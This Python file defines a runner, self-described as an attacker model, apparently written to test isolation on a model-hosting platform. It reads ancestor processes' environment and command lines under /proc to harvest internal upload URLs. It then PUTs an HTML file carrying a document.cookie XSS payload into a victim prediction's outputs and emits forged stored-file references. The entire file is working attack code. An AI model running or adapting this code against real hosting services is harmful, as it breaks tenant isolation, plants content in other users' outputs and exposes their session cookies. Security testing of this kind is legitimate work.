"""An attacker model: forges stored-file references and plants uploads in other predictions."""

import json
import os
import urllib.error
import urllib.request

from cog import BaseRunner, Input


def upload_urls() -> list[str]:
    """The instance's upload URL, from the environment or command line of this process tree."""
    found: list[str] = []
    pid = os.getpid()
    while pid > 1:
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as handle:
                    data = handle.read()
            except OSError:
                continue
            for part in data.split(b"\0"):
                text = part.decode(errors="replace").split("=", 1)[-1]
                if "/internal/uploads/" in text and text.startswith("http") and text not in found:
                    found.append(text)
        try:
            with open(f"/proc/{pid}/stat") as handle:
                pid = int(handle.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return found


def plant(url: str, victim: str) -> int:
    request = urllib.request.Request(
        url.rstrip("/") + "/planted.html",
        data=b"<script>alert(document.cookie)</script>",
        method="PUT",
        headers={"X-Prediction-ID": victim, "Content-Type": "text/html"},
    )
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return int(response.status)
    except urllib.error.HTTPError as exc:
        return int(exc.code)


class Runner(BaseRunner):
    def run(
        self,
        key: str = Input(description="A storage key to point at", default=""),
        internal_prefix: str = Input(description="The platform's internal files URL", default=""),
        victim: str = Input(description="A prediction id to plant an upload in", default=""),
    ) -> list[str]:
        """Strings that name `key` as a stored file, then (given a victim) one JSON report of
        planting a file in the victim's outputs through every upload URL found."""
        output = [f"modelyard://files/{key}", f"{internal_prefix}{key}"] if key else []
        if victim:
            urls = upload_urls()
            report = {"found": len(urls), "statuses": [plant(url, victim) for url in urls]}
            output.append(json.dumps(report))
        return output
